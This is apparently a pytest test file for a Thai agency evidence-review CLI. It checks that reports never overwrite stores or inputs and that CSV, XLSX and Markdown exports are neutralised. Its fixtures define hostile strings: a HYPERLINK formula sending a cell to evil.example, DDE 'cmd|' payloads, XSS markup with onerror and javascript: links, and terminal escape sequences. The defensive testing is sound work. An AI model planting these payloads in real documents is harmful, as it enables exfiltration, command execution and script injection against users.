"""Issue 10, outputs: nothing lost (no command writes over the store, an input or an existing
file without --force; files are whole or absent), nothing forged (no formula, HTML or link
reaches a report from a document, a folder name or a reviewer).

Each case asserts one clear line and that nothing was lost. The store is filled by the review
flow with a stand-in screen (as in test_reports), with hostile text wherever a user or an agency
controls it: the agency folder's name, the reviewer, reasons and activity names.
"""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from test_decisions import RUBRIC, WORK, full_decisions, write

from evidence_review.cli import main
from evidence_review.outputs import OutputError, write_bytes

AGENCY = '=HYPERLINK("https:evil.example?"&A1,"x")'  # a folder name: no "/"
REVIEWER = "=cmd|' /C calc'!A0"
REASON = "<img src=x onerror=alert(1)> [x](javascript:alert(1)) ![i](http://evil.example/t.png)"
ACTIVITY = "@SUM(1+1)*cmd|' /C calc'!A0"
ACTIVITY_2 = "+66 2 123 4567"


def run(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def one_line(text: str) -> str:
    lines = [line for line in text.splitlines() if line.strip()]
    assert len(lines) == 1, text
    assert "Traceback" not in text
    return lines[0]


@pytest.fixture
def hostile_db(tmp_path: Path, monkeypatch) -> Path:
    """A store where the agency named ``AGENCY`` is confirmed by ``REVIEWER`` with ``REASON``."""
    db = tmp_path / "r.db"
    folder = tmp_path / AGENCY
    folder.mkdir()
    for stem in ("review", "plan", "progress", "order"):
        (folder / f"{stem}.txt").write_text(f"{stem} เอกสาร", encoding="utf-8")
    data = full_decisions()
    docs = data["documents"]
    docs[f"{AGENCY}/review.txt"] = docs.pop("agency-01/review.txt")
    docs[f"{AGENCY}/review.txt"]["subissues"]["3.4"] = {"covered": True, "reason": REASON}
    data["reviewer"] = REVIEWER
    data["progress"]["activities"][0]["name"] = ACTIVITY
    data["progress"]["activities"][1]["name"] = ACTIVITY_2
    data["progress"]["reason"] = "-" + REASON  # a CSV/XLSX formula start, and markup
    r = run("review", str(folder), "--decisions", str(write(tmp_path, "d.yaml", data)),
            "--db", str(db), "--rubric", RUBRIC, *WORK)
    assert r.exit_code == 0, r.output
    return db


def report(db: Path, *args: str):
    return run("report", AGENCY, "--db", str(db), "--rubric", RUBRIC, *args)


def decisions_in(db: Path) -> int:
    with sqlite3.connect(db) as con:
        return con.execute("select count(*) from decisions").fetchone()[0]


# -- nothing lost ----------------------------------------------------------------------------
def test_report_onto_the_live_store_is_refused_and_the_store_kept(hostile_db: Path) -> None:
    before, size = decisions_in(hostile_db), hostile_db.stat().st_size
    r = report(hostile_db, "--format", "md", "-o", str(hostile_db))
    assert r.exit_code == 2
    assert one_line(r.stderr) == (f"Error: {hostile_db}: เป็นไฟล์ฐานข้อมูล ไม่เขียนทับในทุกกรณี "
                                  "[is a database: never replaced]")
    # not even --force writes over the store
    r = report(hostile_db, "--format", "md", "-o", str(hostile_db), "--force")
    assert r.exit_code == 2 and "never replaced]" in one_line(r.stderr)
    assert decisions_in(hostile_db) == before > 0 and hostile_db.stat().st_size == size


def test_another_database_is_never_replaced(hostile_db: Path, tmp_path: Path) -> None:
    other = tmp_path / "other.sqlite"
    with sqlite3.connect(other) as con:
        con.execute("create table t (x)")
    r = report(hostile_db, "--format", "json", "-o", str(other), "--force")
    assert r.exit_code == 2
    assert one_line(r.stderr).endswith(
        f"{other}: เป็นไฟล์ฐานข้อมูล ไม่เขียนทับในทุกกรณี [is a database: never replaced]")
    assert other.read_bytes().startswith(b"SQLite format 3\x00")


def test_the_stores_write_ahead_log_is_never_replaced(tmp_path: Path) -> None:
    db = tmp_path / "r.db"
    con = sqlite3.connect(db)
    con.execute("pragma journal_mode=wal")
    con.execute("create table t (x)")
    con.execute("insert into t values (1)")
    con.commit()
    wal = tmp_path / "r.db-wal"
    assert wal.exists()
    with pytest.raises(OutputError, match=r"\[is a database: never replaced\]$"):
        write_bytes(wal, b"report", force=True)
    con.close()


def test_existing_report_needs_force(hostile_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.md"
    out.write_text("my notes", encoding="utf-8")
    r = report(hostile_db, "-o", str(out))
    assert r.exit_code == 2 and "[already exists: not replaced" in one_line(r.stderr)
    assert out.read_text(encoding="utf-8") == "my notes"
    r = report(hostile_db, "-o", str(out), "--force")
    assert r.exit_code == 0, r.output
    assert out.read_text(encoding="utf-8").startswith("# รายงานผลการประเมินตัวชี้วัด")


@pytest.mark.parametrize("fmt", ["md", "xlsx"])
def test_a_folder_as_output_is_one_line(hostile_db: Path, tmp_path: Path, fmt: str) -> None:
    adir = tmp_path / "adir"
    adir.mkdir()
    r = report(hostile_db, "--format", fmt, "-o", f"{adir}{os.sep}")
    assert r.exit_code == 2
    assert one_line(r.stderr).endswith("เป็นโฟลเดอร์ ต้องระบุชื่อไฟล์ [is a folder: give a file name]")
    assert list(adir.iterdir()) == []


def test_a_device_as_output_is_one_line(hostile_db: Path) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full here")
    r = report(hostile_db, "--format", "md", "-o", "/dev/full")
    assert r.exit_code == 2
    assert one_line(r.stderr).endswith(
        "/dev/full: ไม่ใช่ไฟล์ธรรมดา (เป็นอุปกรณ์ ช่องสื่อสาร หรือซ็อกเก็ต) จึงไม่เขียนผลลงไป "
        "[not a regular file (a device, FIFO or socket): nothing written]")


def test_report_all_into_an_existing_file_is_one_line(hostile_db: Path, tmp_path: Path) -> None:
    existing = tmp_path / "notes.txt"
    existing.write_text("keep", encoding="utf-8")
    r = run("report", "--all", "--out", str(existing), "--db", str(hostile_db),
            "--rubric", RUBRIC)
    assert r.exit_code == 2
    assert one_line(r.stderr).endswith(
        f"{existing}: ไม่ใช่โฟลเดอร์ (เป็นไฟล์ที่มีอยู่แล้ว) ต้องระบุโฟลเดอร์ "
        "[is not a folder (an existing file): give a folder]")
    assert existing.read_text(encoding="utf-8") == "keep"


def test_report_all_refuses_to_replace_summaries_without_force(hostile_db: Path,
                                                                tmp_path: Path) -> None:
    out = tmp_path / "out"
    args = ("report", "--all", "--out", str(out), "--db", str(hostile_db), "--rubric", RUBRIC)
    assert run(*args).exit_code == 0
    (out / "summary.csv").write_text("edited by hand", encoding="utf-8")
    r = run(*args)
    assert r.exit_code == 2 and "summary.csv" in one_line(r.stderr)
    assert (out / "summary.csv").read_text(encoding="utf-8") == "edited by hand"
    assert run(*args, "--force").exit_code == 0


def test_a_full_disk_leaves_the_old_file_whole(tmp_path: Path) -> None:
    """Injected fault: a file-size limit (RLIMIT_FSIZE) makes the write fail with EFBIG, as a
    full disk fails it with ENOSPC: one line, the old file intact, no temporary file left."""
    target = tmp_path / "report.md"
    target.write_text("the old report", encoding="utf-8")
    code = (
        "import resource, signal, sys\n"
        "from pathlib import Path\n"
        "from evidence_review.outputs import OutputError, write_bytes\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))\n"
        "try:\n"
        f"    write_bytes(Path({str(target)!r}), b'x' * 100_000, force=True)\n"
        "except OutputError as exc:\n"
        "    print(exc, file=sys.stderr); sys.exit(2)\n"
    )
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=60)
    assert proc.returncode == 2
    assert one_line(proc.stderr).startswith(f"{target}: เขียนไฟล์ไม่สำเร็จ (File too large)")
    assert target.read_text(encoding="utf-8") == "the old report"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.md"]


def test_an_input_file_is_never_replaced(tmp_path: Path) -> None:
    source = tmp_path / "plan.txt"
    source.write_text("agency's own file", encoding="utf-8")
    with pytest.raises(OutputError, match=r"\[is one of the input files: never replaced\]$"):
        write_bytes(source, b"x", force=True, protect=[source])
    assert source.read_text(encoding="utf-8") == "agency's own file"


def test_screen_json_may_replace_its_own_output_but_not_an_input(tmp_path: Path) -> None:
    folder = tmp_path / "agency"
    folder.mkdir()
    (folder / "review.txt").write_text("สรุปผลการทบทวน การสำรองข้อมูล", encoding="utf-8")
    (folder / "plan.csv").write_text("กิจกรรม,น้ำหนัก", encoding="utf-8")
    out = tmp_path / "screen.json"
    args = ("screen", str(folder), "--quiet", "--jobs", "1", "--db", str(tmp_path / "c.db"))
    assert run(*args, "--json", str(out)).exit_code == 0
    assert run(*args, "--json", str(out)).exit_code == 0  # its own earlier output
    r = run(*args, "--json", str(folder / "plan.csv"))
    assert r.exit_code == 2
    assert "[is one of the input files: never replaced]" in one_line(r.stderr)
    assert (folder / "plan.csv").read_text(encoding="utf-8") == "กิจกรรม,น้ำหนัก"
    notes = tmp_path / "notes.json"
    notes.write_text('{"mine": true}', encoding="utf-8")
    r = run(*args, "--json", str(notes))
    assert r.exit_code == 2 and "[already exists: not replaced" in one_line(r.stderr)
    assert notes.read_text(encoding="utf-8") == '{"mine": true}'


def test_screen_out_into_an_existing_file_is_one_line(tmp_path: Path) -> None:
    folder = tmp_path / "agency"
    folder.mkdir()
    (folder / "review.txt").write_text("สรุปผลการทบทวน", encoding="utf-8")
    existing = tmp_path / "notes.txt"
    existing.write_text("keep", encoding="utf-8")
    r = run("screen", str(folder), "--out", str(existing), "--quiet", "--db",
            str(tmp_path / "c.db"))
    assert r.exit_code == 2
    assert one_line(r.stderr).endswith("[is not a folder (an existing file): give a folder]")
    assert existing.read_text(encoding="utf-8") == "keep"


# -- nothing forged --------------------------------------------------------------------------
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_xlsx_report_has_no_formula_and_keeps_the_text(hostile_db: Path, tmp_path: Path) -> None:
    import openpyxl

    out = tmp_path / "r.xlsx"
    r = report(hostile_db, "--format", "xlsx", "-o", str(out))
    assert r.exit_code == 0, r.output
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    wb = openpyxl.load_workbook(out)
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)}
    assert REVIEWER in texts and ACTIVITY in texts  # shown as typed, as text
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def test_summary_xlsx_and_csv_have_no_formula(hostile_db: Path, tmp_path: Path) -> None:
    import openpyxl

    out = tmp_path / "out"
    r = run("report", "--all", "--out", str(out), "--db", str(hostile_db), "--rubric", RUBRIC)
    assert r.exit_code == 0, r.output
    with zipfile.ZipFile(out / "summary.xlsx") as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    wb = openpyxl.load_workbook(out / "summary.xlsx")
    assert AGENCY in {c.value for row in wb.active.iter_rows() for c in row}
    rows = list(csv.reader(io.StringIO((out / "summary.csv").read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + AGENCY in cells
    assert not any(cell.startswith(FORMULA_START) for cell in cells)


def test_markdown_report_escapes_html_and_links(hostile_db: Path) -> None:
    r = report(hostile_db, "--format", "md")
    assert r.exit_code == 0, r.output
    md = r.stdout
    assert "<img" not in md
    assert "[x](javascript:" not in md.replace("\\[x\\](", "")  # only the escaped form
    assert "&lt;img src=x onerror=alert(1)&gt;" in md
    assert "\\[x\\](javascript:alert(1))" in md
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").enable("table").render(md)
    assert "<img" not in html and 'href="javascript' not in html


def test_reviewer_name_control_characters_are_stripped(tmp_path: Path, monkeypatch) -> None:
    folder = tmp_path / "agency-01"
    folder.mkdir()
    (folder / "review.txt").write_text("review", encoding="utf-8")
    db = str(tmp_path / "r.db")
    data = {"reviewer": "somchai\x1b[31m\r\x00", "documents": {
        "agency-01/review.txt": {"role": "review", "subissues": {
            "1.1": {"covered": True, "reason": "ok\x1b]0;pwned\x07 done"}}}}}
    r = run("review", str(folder), "--decisions", str(write(tmp_path, "d.json", data)),
            "--db", db, "--rubric", RUBRIC, *WORK)
    assert r.exit_code == 0, r.output
    assert "\x1b" not in r.output and "\r" not in r.output
    r = run("decisions", "agency-01", "--db", db)
    assert r.exit_code == 0, r.output
    assert "\x1b" not in r.output and "\x00" not in r.output and "somchai[31m" in r.output


@pytest.mark.parametrize(("field", "size", "expected"), [
    ("reviewer", 101, "ชื่อผู้ตรวจยาว 101 อักขระ เกินกำหนด 100 อักขระ "
                      "[reviewer name is 101 characters, over the 100-character limit]"),
    ("reviewer", 10_000_000, "[reviewer name is 10,000,000 characters, over the 100-character "
                             "limit]"),
    ("reason", 2001, "เหตุผลยาว 2,001 อักขระ เกินกำหนด 2,000 อักขระ "
                     "[reason is 2,001 characters, over the 2,000-character limit]"),
])
def test_long_names_and_reasons_are_refused(tmp_path: Path, field: str, size: int,
                                            expected: str) -> None:
    from evidence_review.review.decisions_file import ReviewError, load_decisions

    data: dict = {"reviewer": "somchai", "documents": {"a/review.txt": {"subissues": {}}}}
    if field == "reviewer":
        data["reviewer"] = "ก" * size
    else:
        data["documents"]["a/review.txt"]["subissues"]["1.1"] = {"covered": True,
                                                                 "reason": "ข" * size}
    path = write(tmp_path, "d.json", data)
    with pytest.raises(ReviewError) as err:
        load_decisions(path)
    assert "\n" not in str(err.value) and str(err.value).startswith(f"{path}: ")
    assert str(err.value).endswith(expected)


def test_long_reviewer_option_is_refused(tmp_path: Path) -> None:
    r = run("review", str(tmp_path), "--reviewer", "x" * 101, "--db", str(tmp_path / "r.db"))
    assert r.exit_code == 2
    assert "[reviewer name is 101 characters, over the 100-character limit]" in r.stderr
    assert "Traceback" not in r.output


def test_file_names_cannot_drive_the_terminal(tmp_path: Path, monkeypatch, capsys) -> None:
    """A file called ``\\x1b[2J[red]…`` (or shown as ``[/]…``) neither clears the terminal
    nor breaks rich's table."""
    folder = tmp_path / "agency"
    folder.mkdir()
    (folder / "\x1b[2J[red]review.txt").write_text("สรุปผลการทบทวน", encoding="utf-8")
    r = run("screen", str(folder), "--quiet", "--jobs", "1", "--db", str(tmp_path / "c.db"))
    assert r.exit_code == 0, r.output
    assert "\x1b" not in r.output and "\\x1b[2J[red]review.txt" in r.output
    from evidence_review.cli.commands import screen as screen_cmd
    from evidence_review.pipeline.document import screen_document
    from evidence_review.rubric.model import load_rubric

    rubric = load_rubric()
    doc = screen_document(next(folder.iterdir()), rubric, "\x1b[2J[/]review.txt", "[/]agency")
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    screen_cmd.terminal_table("[/]agency", [doc], rubric)
    out = capsys.readouterr().out
    assert "[/]agency" in out and "\x1b[2J" not in out
